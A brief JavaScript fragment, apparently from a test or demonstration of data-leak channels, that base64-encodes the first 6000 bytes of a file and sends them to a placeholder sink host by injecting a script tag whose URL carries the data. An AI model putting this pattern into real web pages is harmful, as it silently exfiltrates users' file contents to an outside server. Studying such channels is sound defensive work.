// A part of the file in the address of a script.
whenMade(({ bytes }) => {
  const script = document.createElement("script");
  script.src = `${SINKS.http}/tag.js?d=${base64url(bytes.slice(0, 6000))}`;
  document.head.append(script);
});
